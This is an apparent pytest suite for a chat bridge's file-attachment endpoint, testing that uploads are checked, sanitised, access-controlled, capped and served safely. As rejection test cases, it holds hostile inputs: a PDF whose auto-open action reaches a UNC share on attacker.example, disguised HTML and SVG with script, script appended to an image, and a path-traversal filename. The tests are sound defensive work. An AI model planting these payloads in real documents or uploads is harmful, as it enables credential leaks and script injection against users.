"""Attachments through real bridge processes (docs/bridge-protocol.md "Attachments"): each kind both ways,
each refusal with its code, who may read a file, the headers it is served with, two processes, removal
with the conversation, and a file sent while the bot serves (kept for the agent, never sent to Rasa)."""

from __future__ import annotations

import asyncio
import time
import uuid
from typing import Any, Dict, Iterator, Optional
from urllib.parse import quote

import pytest
import redis as redis_sync
import requests

from handoff.attachments import safe_name
from handoff.filecheck import FileKind
from handoff.limits import WINDOW_SECONDS
from handoff_client import Customer
from harness.clients import claimed, staff
from harness.files import HTML_AS_PNG, SVG_WITH_SCRIPT, image, pdf, pdf_hiding_script, pdf_with_script
from harness.servers import RASA_API_TOKEN, add_agent, running_bridge

SANDBOX = "default-src 'none'; sandbox"


def upload(address: str, conversation_id: str, body: bytes, authorization: Optional[str], name: str = "file.png",
           client_id: str = "", content_type: str = "application/octet-stream",
           headers: Optional[Dict[str, str]] = None) -> requests.Response:
    sent = {"Content-Type": content_type, "X-File-Name": quote(name), **(headers or {})}
    if authorization:
        sent["Authorization"] = authorization
    if client_id:
        sent["X-Client-Id"] = client_id
    return requests.post(f"http://{address}/api/conversations/{conversation_id}/attachments", data=body,
                         headers=sent, timeout=30)


def fetch(address: str, conversation_id: str, file_id: str, authorization: Optional[str]) -> requests.Response:
    headers = {"Authorization": authorization} if authorization else {}
    return requests.get(f"http://{address}/api/conversations/{conversation_id}/attachments/{file_id}",
                        headers=headers, timeout=30)


def as_customer(customer: Customer) -> str:
    return f"Conversation {customer.token}"


def as_agent(agent: Any) -> str:
    return f"Bearer {agent.token}"


def error_code(reply: requests.Response) -> str:
    return str(reply.json()["error"]["code"])


async def finished(customer: Customer, agent: Any, *others: Any) -> None:
    """The chat closed (the agent's slot is free for the next test) and every socket closed."""
    await agent.acknowledged(await agent.close_conversation(customer.conversation_id))
    for each in (customer, agent, *others):
        await each.close()


async def attachment_message(client: Any, file_id: str) -> Dict[str, Any]:
    return await client.next_matching(
        lambda e: e["type"] == "message" and (e["data"].get("data") or {}).get("attachment", {}).get("id") == file_id,
        f"the message of file {file_id}")


@pytest.mark.parametrize("kind, content_type", [("PNG", "image/png"), ("JPEG", "image/jpeg"),
                                                ("WEBP", "image/webp"), ("GIF", "image/gif")])
def test_each_image_kind_from_the_customer_reaches_the_agent_and_is_served_as_stored(bridge, kind, content_type):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        body = image(kind)
        # Whatever the client claims (a name saying .txt, a type saying text/html), the content decides.
        reply = upload(bridge, customer.conversation_id, body, as_customer(customer), "holiday.txt", "id-1",
                       content_type="text/html")
        assert reply.status_code == 201, reply.text
        attachment = reply.json()["attachment"]
        assert attachment["type"] == content_type and attachment["size"] == len(body)
        assert (attachment["width"], attachment["height"]) == (64, 48)
        assert attachment["name"] == f"holiday.{ {'JPEG': 'jpg'}.get(kind, kind.lower()) }"
        shown = await attachment_message(ann, attachment["id"])
        assert shown["data"]["kind"] == "customer" and shown["data"]["text"] == attachment["name"]
        assert shown["id"] == reply.json()["message_id"]
        mine = await attachment_message(customer, attachment["id"])
        assert mine["data"]["data"]["attachment"] == attachment and mine["data"]["client_id"] == "id-1"
        for who in (as_agent(ann), as_customer(customer)):
            served = fetch(bridge, customer.conversation_id, attachment["id"], who)
            assert served.status_code == 200 and served.content == body
            assert served.headers["Content-Type"] == content_type
            assert served.headers["Content-Disposition"].startswith("inline; filename=")
            assert served.headers["X-Content-Type-Options"] == "nosniff"
            assert served.headers["Content-Security-Policy"] == SANDBOX
        await finished(customer, ann)

    asyncio.run(scenario())


def test_an_agent_sends_a_pdf_which_the_customer_receives_as_a_download(bridge):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        reply = upload(bridge, customer.conversation_id, pdf(), as_agent(ann), 'C:\\bank\\"Statement"\u202egnp.pdf')
        assert reply.status_code == 201, reply.text
        attachment = reply.json()["attachment"]
        assert attachment == {"id": attachment["id"], "type": "application/pdf", "name": "Statement_gnp.pdf",
                              "size": len(pdf())}
        seen = await attachment_message(customer, attachment["id"])
        assert seen["data"]["kind"] == "agent" and seen["data"]["data"]["attachment"] == attachment
        served = fetch(bridge, customer.conversation_id, attachment["id"], as_customer(customer))
        assert served.status_code == 200 and served.content == pdf()
        assert served.headers["Content-Type"] == "application/pdf"
        assert served.headers["Content-Disposition"] == (
            "attachment; filename=\"Statement_gnp.pdf\"; filename*=UTF-8''Statement_gnp.pdf")
        assert served.headers["Content-Security-Policy"] == SANDBOX
        await finished(customer, ann)

    asyncio.run(scenario())


@pytest.mark.parametrize("body, name, status, code", [
    (HTML_AS_PNG, "photo.png", 415, "disguised_file"),
    (SVG_WITH_SCRIPT, "logo.png", 415, "disguised_file"),
    (b"just some words", "notes.txt", 415, "unsupported_type"),
    (pdf_with_script(), "statement.pdf", 422, "unsafe_file"),
    (pdf_hiding_script(), "statement.pdf", 422, "unsafe_file"),
    (pdf().replace(b"/MediaBox", b"/AA << /O << /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) >> >> /MediaBox"),
     "letter.pdf", 422, "unsafe_file"),  # trial 16: a UNC share opened with the page ("Bad-PDF")
    (image("PNG")[:-9], "cut.png", 422, "malformed_file"),
    (image("JPEG") + b"<script>alert(1)</script>", "tail.jpg", 422, "malformed_file"),
    (b"", "empty.png", 422, "malformed_file"),
])
def test_each_refusal_has_its_code_and_stores_nothing(bridge, redis_url, bridge_prefix, body, name, status, code):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        for who in (as_customer(customer), as_agent(ann)):
            reply = upload(bridge, customer.conversation_id, body, who, name)
            assert (reply.status_code, error_code(reply)) == (status, code), reply.text
        assert not redis_sync.Redis.from_url(redis_url).exists(f"{bridge_prefix}:files:{customer.conversation_id}")
        await finished(customer, ann)

    asyncio.run(scenario())


def test_a_file_over_the_default_10_mb_is_refused_while_it_is_read(bridge):
    async def scenario() -> None:
        customer = await Customer.connect(bridge)
        png = image("PNG")
        too_large = png + b"\0" * (10 * 1024 * 1024 + 1 - len(png))
        reply = upload(bridge, customer.conversation_id, too_large, as_customer(customer))
        assert (reply.status_code, error_code(reply)) == (413, "too_large")

        def chunks() -> Iterator[bytes]:  # no Content-Length: refused once more than the cap has come
            for _ in range(11):
                yield b"\0" * (1024 * 1024)
        streamed = requests.post(f"http://{bridge}/api/conversations/{customer.conversation_id}/attachments",
                                 data=chunks(), headers={"Authorization": as_customer(customer)}, timeout=30)
        assert (streamed.status_code, error_code(streamed)) == (413, "too_large")
        await customer.close()

    asyncio.run(scenario())


def test_only_the_conversations_customer_and_its_agents_may_read_or_send(bridge):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        other = await Customer.connect(bridge)
        cid = customer.conversation_id
        reply = upload(bridge, cid, image("PNG"), as_customer(customer))
        file_id = reply.json()["attachment"]["id"]
        bob, sam = await staff(bridge, "bob"), await staff(bridge, "sam", "supervisor")
        for who, status, code in [(None, 401, "invalid_token"), (f"Conversation {other.token}", 401, "invalid_token"),
                                  ("Bearer forged.token", 401, "invalid_token"), (as_agent(bob), 403, "forbidden")]:
            refused = fetch(bridge, cid, file_id, who)
            assert (refused.status_code, error_code(refused)) == (status, code), who
            assert "Content-Disposition" not in refused.headers
            sent = upload(bridge, cid, image("PNG"), who)
            assert (sent.status_code, error_code(sent)) == (status, code), who
        # Another conversation's customer cannot reach this file through their own conversation either.
        elsewhere = fetch(bridge, other.conversation_id, file_id, as_customer(other))
        assert (elsewhere.status_code, error_code(elsewhere)) == (404, "not_found")
        assert fetch(bridge, cid, file_id, as_agent(sam)).status_code == 200  # a supervisor may read any chat
        # A colleague a note mentioned may read the chat read-only (as with `view`), its files too.
        await ann.acknowledged(await ann.note("@bob could you look at this card photo?", cid))
        assert fetch(bridge, cid, file_id, as_agent(bob)).status_code == 200
        sent_by_bob = upload(bridge, cid, image("PNG"), as_agent(bob))  # reading is not serving
        assert (sent_by_bob.status_code, error_code(sent_by_bob)) == (403, "forbidden")
        assert fetch(bridge, cid, "nosuchfile", as_customer(customer)).status_code == 404
        await finished(customer, ann, other, bob, sam)

    asyncio.run(scenario())


def test_a_wrong_token_and_an_unknown_conversation_get_one_answer(bridge):
    """Found by an attacker: a real id with a wrong token got 401, a made-up one 404, which confirmed
    a leaked id; as the websocket's hello, both now get the same answer, reading and sending."""
    async def scenario() -> None:
        customer = await Customer.connect(bridge)
        cid = customer.conversation_id
        file_id = upload(bridge, cid, image("PNG"), as_customer(customer)).json()["attachment"]["id"]
        wrong = f"Conversation {'x' * len(customer.token)}"
        answers = set()
        for conversation_id in (cid, f"{cid[:-2]}zz", "nosuchconversation"):
            for reply in (fetch(bridge, conversation_id, file_id, wrong),
                          upload(bridge, conversation_id, image("PNG"), wrong)):
                answers.add((reply.status_code, error_code(reply), reply.json()["error"]["message"]))
        assert answers == {(401, "invalid_token", "unknown conversation or wrong token")}
        await customer.close()

    asyncio.run(scenario())


def test_a_resent_upload_with_the_same_client_id_is_stored_once(bridge):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        first = upload(bridge, customer.conversation_id, image("GIF"), as_customer(customer), client_id="again")
        second = upload(bridge, customer.conversation_id, image("GIF"), as_customer(customer), client_id="again")
        assert first.status_code == second.status_code == 201
        assert first.json() == second.json()
        await finished(customer, ann)

    asyncio.run(scenario())


def test_a_file_stored_through_one_process_is_served_and_announced_by_another(bridge, second_bridge):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        sam_on_b = await staff(second_bridge, "sam", "supervisor")
        reply = upload(second_bridge, customer.conversation_id, image("WEBP"), as_customer(customer))
        attachment = reply.json()["attachment"]
        await attachment_message(ann, attachment["id"])  # ann's socket is on the first process
        served = fetch(bridge, customer.conversation_id, attachment["id"], as_agent(ann))
        assert served.status_code == 200 and served.content == image("WEBP")
        back = upload(bridge, customer.conversation_id, pdf(), as_agent(ann))
        again = fetch(second_bridge, customer.conversation_id, back.json()["attachment"]["id"], as_customer(customer))
        assert again.status_code == 200 and again.content == pdf()
        await finished(customer, ann, sam_on_b)

    asyncio.run(scenario())


def test_files_are_kept_as_long_as_their_transcript(bridge, redis_url, bridge_prefix):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        cid = customer.conversation_id
        upload(bridge, cid, image("PNG"), as_customer(customer))
        client = redis_sync.Redis.from_url(redis_url)
        time.sleep(1.5)
        await ann.say("Thanks, I can see it.", conversation_id=cid)
        await customer.expect("message", kind="agent")
        files_ttl, log_ttl = client.pttl(f"{bridge_prefix}:files:{cid}"), client.pttl(f"{bridge_prefix}:log:{cid}")
        assert abs(files_ttl - log_ttl) < 1000, "a later message keeps the files as long as the transcript"
        await finished(customer, ann)

    asyncio.run(scenario())


def test_a_file_and_a_text_message_sent_with_the_same_id_are_two_messages(bridge, redis_url, bridge_prefix):
    async def scenario() -> None:
        customer, ann = await claimed(bridge, "ann")
        said = await customer.say("here is my statement")
        await customer.acknowledged(said)
        # The widget's ids are its own; a file sent with a text message's id is still a message of its own.
        reply = upload(bridge, customer.conversation_id, image("GIF"), as_customer(customer), client_id=said.id)
        assert reply.status_code == 201, reply.text
        assert reply.json()["message_id"] != said.message_id
        shown = await attachment_message(ann, reply.json()["attachment"]["id"])
        assert shown["id"] == reply.json()["message_id"] and shown["data"]["client_id"] == said.id
        served = fetch(bridge, customer.conversation_id, reply.json()["attachment"]["id"], as_agent(ann))
        assert served.status_code == 200 and served.content == image("GIF")
        await finished(customer, ann)

    asyncio.run(scenario())


@pytest.fixture(scope="module")
def short_prefix(bridge_prefix) -> str:
    """The short-lived bridge's own keys: its caps count apart from the other bridges' uploads."""
    return f"{bridge_prefix}short"


@pytest.fixture(scope="module")
def short_lived_bridge(redis_url, rasa_url, short_prefix) -> Iterator[str]:
    """Conversations kept 3 s after their last change; files of at most 4096 bytes, 2 per conversation and 5 per
    address in 10 minutes."""
    with running_bridge(redis_url, rasa_url, "bridge-attach", short_prefix, HANDOFF_RETENTION_SECONDS="3",
                        HANDOFF_MAX_ATTACHMENT_BYTES="4096", HANDOFF_MAX_UPLOADS_PER_SENDER="2",
                        HANDOFF_MAX_UPLOADS_PER_IP="5") as address:
        yield address


def test_files_are_removed_with_their_conversation(short_lived_bridge, redis_url, short_prefix):
    bridge_prefix = short_prefix
    async def scenario() -> None:
        customer = await Customer.connect(short_lived_bridge)
        cid = customer.conversation_id
        reply = upload(short_lived_bridge, cid, image("PNG", 8, 8), as_customer(customer))
        assert reply.status_code == 201, reply.text
        file_id = reply.json()["attachment"]["id"]
        client = redis_sync.Redis.from_url(redis_url)
        deadline = time.monotonic() + 15
        while client.exists(f"{bridge_prefix}:conv:{cid}") and time.monotonic() < deadline:
            await asyncio.sleep(0.5)
        assert not client.exists(f"{bridge_prefix}:conv:{cid}", f"{bridge_prefix}:files:{cid}",
                                 f"{bridge_prefix}:log:{cid}")
        gone = fetch(short_lived_bridge, cid, file_id, as_customer(customer))
        assert (gone.status_code, error_code(gone)) == (401, "invalid_token")  # as for an id that never was
        await customer.close()

    asyncio.run(scenario())


def test_too_many_uploads_and_a_smaller_cap_are_refused_with_their_codes(short_lived_bridge):
    async def scenario() -> None:
        customer = await Customer.connect(short_lived_bridge)
        cid = customer.conversation_id
        large = upload(short_lived_bridge, cid, image("PNG", 400, 400, "#808080") + b"\0" * 4096, as_customer(customer))
        assert (large.status_code, error_code(large)) == (413, "too_large")
        # The refused one counted: one more is allowed in these 10 minutes, then no more.
        assert upload(short_lived_bridge, cid, image("GIF", 8, 8), as_customer(customer)).status_code == 201
        refused = upload(short_lived_bridge, cid, image("GIF", 8, 8), as_customer(customer))
        assert (refused.status_code, error_code(refused)) == (429, "too_many_uploads")
        # Retry-After: the seconds to the end of the cap's 10-minute window (not a minute: trial 16).
        to_window_end = WINDOW_SECONDS - time.time() % WINDOW_SECONDS
        assert abs(int(refused.headers["Retry-After"]) - to_window_end) <= 2, refused.headers
        assert "one sender" in refused.json()["error"]["message"]
        # New conversations from the same address, one file each: the address's cap comes next.
        others = []
        for _ in range(5):
            others.append(await Customer.connect(short_lived_bridge))
            answer = upload(short_lived_bridge, others[-1].conversation_id, image("GIF", 8, 8), as_customer(others[-1]))
            if answer.status_code != 201:
                break
        assert (answer.status_code, error_code(answer)) == (429, "too_many_uploads")
        assert "one address" in answer.json()["error"]["message"]
        assert abs(int(answer.headers["Retry-After"]) - (WINDOW_SECONDS - time.time() % WINDOW_SECONDS)) <= 2
        for each in (customer, *others):
            await each.close()

    asyncio.run(scenario())


def test_a_file_sent_to_the_bot_is_kept_for_the_agent_never_sent_to_rasa_with_one_notice_a_burst(
        bridge, rasa_url, redis_url, bridge_prefix):
    async def scenario() -> None:
        customer = await Customer.connect(bridge)
        cid = customer.conversation_id
        name = f"receipt-{uuid.uuid4().hex[:8]}.png"
        reply = upload(bridge, cid, image("PNG"), as_customer(customer), name)
        assert reply.status_code == 201, reply.text
        kept = await customer.next_matching(
            lambda e: e["type"] == "message" and e["data"]["data"].get("notice") == "attachment_kept", "the notice")
        assert kept["data"]["kind"] == "system" and kept["data"]["data"]["offer"] == ["talk_to_person"]
        assert "can't read files" in kept["data"]["text"]
        # More files straight after: kept, without a notice each (trial 16: 20 files, 20 notices).
        for number in range(2):
            assert upload(bridge, cid, image("GIF", 8, 8), as_customer(customer), f"more-{number}.gif").status_code == 201
        log = redis_sync.Redis.from_url(redis_url).xrange(f"{bridge_prefix}:log:{cid}")
        texts = [fields[b"text"].decode() for _, fields in log]
        assert [text for text in texts if text.startswith("more-")] == ["more-0.gif", "more-1.gif"]
        assert texts.count(kept["data"]["text"]) == 1, texts
        tracker = requests.get(f"{rasa_url}/conversations/{cid}/tracker", params={"token": RASA_API_TOKEN},
                               timeout=30).json()
        assert name.rsplit(".", 1)[0] not in repr(tracker.get("events")), "the file reached Rasa"
        # The customer takes the offer; the agent who claims finds the file in the transcript.
        await customer.send("talk_to_person", id="talk")
        await customer.expect("status", state="queued")
        ann = await staff(bridge, "ann")
        await ann.send("claim", {"conversation_id": cid}, id="claim")
        await ann.expect("ack", conversation_id=cid)
        found = await attachment_message(ann, reply.json()["attachment"]["id"])
        assert found["data"]["kind"] == "customer"
        assert fetch(bridge, cid, reply.json()["attachment"]["id"], as_agent(ann)).status_code == 200
        await finished(customer, ann)

    asyncio.run(scenario())


def test_browsers_on_allowed_origins_only_get_cors(bridge):
    own = f"http://{bridge}"
    path = f"http://{bridge}/api/conversations/any/attachments"
    allowed = requests.options(path, headers={"Origin": own, "Access-Control-Request-Method": "POST"}, timeout=10)
    assert allowed.status_code == 204 and allowed.headers["Access-Control-Allow-Origin"] == own
    assert "X-File-Name" in allowed.headers["Access-Control-Allow-Headers"]
    evil = requests.options(path, headers={"Origin": "http://evil.example"}, timeout=10)
    assert (evil.status_code, error_code(evil)) == (403, "forbidden_origin")
    posted = requests.post(path, data=image("PNG"), headers={"Origin": "http://evil.example"}, timeout=10)
    assert (posted.status_code, error_code(posted)) == (403, "forbidden_origin")
    assert "Access-Control-Allow-Origin" not in posted.headers


def test_a_file_past_the_transcripts_length_is_refused_and_not_kept(bridge, redis_url, bridge_prefix):
    async def scenario() -> None:
        customer = await Customer.connect(bridge)
        cid = customer.conversation_id
        client = redis_sync.Redis.from_url(redis_url)
        with client.pipeline(transaction=False) as pipe:  # a transcript as long as one may be (1,000 messages)
            for number in range(1000):
                pipe.xadd(f"{bridge_prefix}:log:{cid}", {"kind": "customer", "text": f"filler {number}", "data": "{}",
                                                         "key": f"customer:filler-{number}", "ts": "0"})
            pipe.execute()
        refused = upload(bridge, cid, image("PNG"), as_customer(customer))
        assert (refused.status_code, error_code(refused)) == (409, "transcript_full")
        assert not client.hlen(f"{bridge_prefix}:files:{cid}"), "a file no message refers to is not kept"
        await customer.close()

    asyncio.run(scenario())


@pytest.fixture(scope="module")
def budget_prefix(bridge_prefix) -> str:
    """The budgeted bridge's own keys: its day's bytes count apart from the other bridges'."""
    return f"{bridge_prefix}budget"


@pytest.fixture(scope="module")
def budgeted_bridge(redis_url, rasa_url, budget_prefix) -> Iterator[str]:
    """Room for two copies of pdf() per conversation, three from one customer address and four in all today."""
    add_agent(redis_url, budget_prefix, "ann")
    with running_bridge(redis_url, rasa_url, "bridge-budget", budget_prefix,
                        HANDOFF_MAX_FILE_BYTES_PER_CONVERSATION=str(2 * len(pdf()) + 10),
                        HANDOFF_MAX_FILE_BYTES_PER_ADDRESS_PER_DAY=str(3 * len(pdf()) + 10),
                        HANDOFF_MAX_FILE_BYTES_PER_DAY=str(4 * len(pdf()) + 10)) as address:
        yield address


def test_the_bytes_of_files_kept_have_a_budget_per_conversation_per_customer_address_and_per_day(
        budgeted_bridge, redis_url, budget_prefix):
    async def scenario() -> None:
        first, second = await Customer.connect(budgeted_bridge), await Customer.connect(budgeted_bridge)
        for client_id in ("a", "b"):
            assert upload(budgeted_bridge, first.conversation_id, pdf(), as_customer(first),
                          client_id=client_id).status_code == 201
        # A resend of a kept file costs nothing; a third file is past the conversation's budget.
        assert upload(budgeted_bridge, first.conversation_id, pdf(), as_customer(first), client_id="b").status_code == 201
        full = upload(budgeted_bridge, first.conversation_id, pdf(), as_customer(first), client_id="c")
        assert (full.status_code, error_code(full)) == (507, "file_space_full")
        assert "this conversation" in full.json()["error"]["message"]
        client = redis_sync.Redis.from_url(redis_url)
        assert int(client.hget(f"{budget_prefix}:files:{first.conversation_id}", "bytes")) == 2 * len(pdf())
        # Another conversation from the same address: one more fits in the address's day, then none
        # (one visitor cannot spend the day's budget for everyone: trial 16).
        assert upload(budgeted_bridge, second.conversation_id, pdf(), as_customer(second)).status_code == 201
        spent = upload(budgeted_bridge, second.conversation_id, pdf(), as_customer(second))
        assert (spent.status_code, error_code(spent)) == (507, "file_space_full")
        assert "one address" in spent.json()["error"]["message"]
        assert 0 < int(spent.headers["Retry-After"]) <= 86400  # the end of the UTC day
        assert client.hlen(f"{budget_prefix}:files:{second.conversation_id}") == 3  # one file's meta and body, bytes
        # Staff count only against the day's budget: one agent file fits, then the day is spent.
        third, ann = await claimed(budgeted_bridge, "ann")
        assert upload(budgeted_bridge, third.conversation_id, pdf(), as_agent(ann), "a.pdf").status_code == 201
        day_spent = upload(budgeted_bridge, third.conversation_id, pdf(), as_agent(ann), "b.pdf")
        assert (day_spent.status_code, error_code(day_spent)) == (507, "file_space_full")
        assert "today" in day_spent.json()["error"]["message"]
        await finished(third, ann)
        for each in (first, second):
            await each.close()

    asyncio.run(scenario())


def test_a_slash_is_a_folder_only_in_a_path_elsewhere_part_of_the_name():
    for claimed, kept in (("<b>bold</b>.pdf", "b_bold_b.pdf"), ("2024/03 statement.pdf", "2024_03 statement.pdf"),
                          ("C:\\Users\\jo\\Statement.pdf", "Statement.pdf"), ("/home/jo/Statement.pdf", "Statement.pdf"),
                          ("../../etc/passwd", "passwd.pdf"), ("c:/temp/scan.pdf", "scan.pdf")):
        assert safe_name(claimed, FileKind.PDF) == kept, claimed
